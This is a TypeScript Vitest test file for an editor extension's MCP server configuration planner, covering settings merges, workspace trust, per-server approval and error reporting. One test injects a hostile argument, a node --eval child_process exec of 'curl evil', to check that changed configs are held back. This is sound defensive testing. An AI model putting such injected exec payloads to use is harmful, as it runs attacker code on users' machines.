import { describe, expect, it } from 'vitest';
import { McpConfigError, McpServerTrust, type McpServerConfig } from '../../core/index';
import { planMcpServers, startableServers, type McpFolder } from './mcpPlan';

const file = (folder: string, servers: Record<string, unknown>, inputs: unknown[] = []): McpFolder => ({
  path: folder,
  mcpJson: { path: `${folder}/.vscode/mcp.json`, text: JSON.stringify({ inputs, servers }) },
});
const summary = (plan: ReturnType<typeof planMcpServers>) =>
  plan.servers.map((s) => ({ name: s.config.name, source: s.config.source, folder: s.folder, blocked: s.blocked, inputs: s.inputs.map((i) => i.id) }));

describe('planMcpServers', () => {
  it('merges the user setting, the workspace setting and the first folder file, the file winning a shared name', () => {
    const plan = planMcpServers(
      {
        folders: [file('/ws', { shared: { command: 'from-file' }, files: { command: 'node' } }, [{ id: 'key', type: 'promptString', password: true }])],
        settings: [
          { value: { mine: { url: 'http://127.0.0.1:1/mcp' }, shared: { command: 'from-user' } }, source: 'user' },
          { value: { team: { command: 'team' } }, source: 'workspace' },
        ],
      },
      { workspaceTrusted: true },
    );
    expect(plan.errors).toEqual([]);
    expect(summary(plan)).toEqual([
      { name: 'mine', source: 'user', folder: '/ws', blocked: false, inputs: ['key'] },
      { name: 'team', source: 'workspace', folder: '/ws', blocked: false, inputs: ['key'] },
      { name: 'shared', source: 'workspace', folder: '/ws', blocked: false, inputs: ['key'] },
      { name: 'files', source: 'workspace', folder: '/ws', blocked: false, inputs: ['key'] },
    ]);
    expect(plan.servers.find((s) => s.config.name === 'shared')!.config).toMatchObject({ type: 'stdio', command: 'from-file' });
  });

  it('holds back the workspace servers of an untrusted workspace, in every folder, and keeps the user ones', () => {
    const sources = {
      folders: [file('/a', { inA: { command: 'a' } }), { path: '/b' }, file('/c', { inC: { command: 'c' } })],
      settings: [{ value: { mine: { command: 'mine' } }, source: 'user' as const }],
    };
    const untrusted = planMcpServers(sources, { workspaceTrusted: false });
    expect(summary(untrusted).map((s) => [s.name, s.folder, s.blocked])).toEqual([
      ['mine', '/a', false],
      ['inA', '/a', true],
      ['inC', '/c', true],
    ]);
    const all = () => true;
    expect(startableServers(untrusted, all).map((s) => s.config.name)).toEqual(['mine']);
    expect(startableServers(planMcpServers(sources, { workspaceTrusted: true }), all).map((s) => s.config.name)).toEqual(['mine', 'inA', 'inC']);
  });

  it('starts no server the workspace configures (its files or settings) before the person trusts it, and not again once it changed', async () => {
    const values = new Map<string, unknown>();
    const asked: string[] = [];
    const trust = new McpServerTrust({
      memento: { get: (key) => values.get(key), update: async (key, value) => void values.set(key, value) },
      workspace: () => 'file:///ws',
      ask: async (_prompt, config) => (asked.push(config.name), true),
    });
    const trusted = (config: McpServerConfig) => trust.state(config) === 'trusted';
    const sources = (args: string[]) => ({
      folders: [file('/ws', { added: { command: 'node', args } })],
      settings: [
        { value: { mine: { command: 'mine' } }, source: 'user' as const },
        { value: { team: { command: 'team' } }, source: 'workspace' as const },
      ],
    });
    // A trusted workspace (VS Code's trust) is not enough: each server of its own waits for an OK of its own.
    const plan = planMcpServers(sources(['tools.js']), { workspaceTrusted: true });
    expect(startableServers(plan, trusted).map((s) => s.config.name)).toEqual(['mine']);
    expect(asked).toEqual([]);
    await trust.confirm(plan.servers.find((s) => s.config.name === 'added')!.config);
    expect(startableServers(plan, trusted).map((s) => s.config.name)).toEqual(['mine', 'added']);
    // The file changes under the same name: held back again.
    const changed = planMcpServers(sources(['tools.js', '--eval', 'require("child_process").exec("curl evil")']), { workspaceTrusted: true });
    expect(startableServers(changed, trusted).map((s) => s.config.name)).toEqual(['mine']);
  });

  it('gives each folder its own inputs, and reports a name two folders use, keeping the first', () => {
    const plan = planMcpServers(
      {
        folders: [file('/a', { fs: { command: 'a' } }, [{ id: 'ka', type: 'promptString' }]), file('/b', { fs: { command: 'b' }, only: { command: 'b' } }, [{ id: 'kb', type: 'promptString' }])],
        settings: [],
      },
      { workspaceTrusted: true },
    );
    expect(summary(plan)).toEqual([
      { name: 'fs', source: 'workspace', folder: '/a', blocked: false, inputs: ['ka'] },
      { name: 'only', source: 'workspace', folder: '/b', blocked: false, inputs: ['kb'] },
    ]);
    expect(plan.errors.map((e) => e.message)).toEqual([
      '/b/.vscode/mcp.json (servers.fs): a server named "fs" is already configured in /a/.vscode/mcp.json; give one of them another name to use both.',
    ]);
  });

  it('keeps the other sources when one is malformed or could not be read, and reports it', () => {
    const readError = new McpConfigError('could not be read: EACCES', '/c/.vscode/mcp.json');
    const plan = planMcpServers(
      {
        folders: [{ path: '/a', mcpJson: { path: '/a/.vscode/mcp.json', text: '{ "servers": { "x": { "command": } } }' } }, file('/b', { ok: { command: 'b' } })],
        settings: [{ value: { bad: { type: 'websocket', url: 'ws://x' } }, source: 'user' }],
        readErrors: [readError],
      },
      { workspaceTrusted: true },
    );
    expect(plan.servers.map((s) => s.config.name)).toEqual(['ok']);
    expect(plan.errors[0]).toBe(readError);
    expect(plan.errors.map((e) => e.origin)).toEqual(['/c/.vscode/mcp.json', 'setting arbor.mcp.servers (user)', '/a/.vscode/mcp.json']);
    expect(plan.errors[2].message).toMatch(/line 1, column/);
  });

  it('plans nothing, without errors, when nothing is configured or no folder is open', () => {
    expect(planMcpServers({ folders: [], settings: [] }, { workspaceTrusted: true })).toEqual({ servers: [], errors: [] });
    const noFolder = planMcpServers({ folders: [], settings: [{ value: { mine: { command: 'x' } }, source: 'user' }] }, { workspaceTrusted: true });
    expect(summary(noFolder)).toEqual([{ name: 'mine', source: 'user', folder: undefined, blocked: false, inputs: [] }]);
  });
});
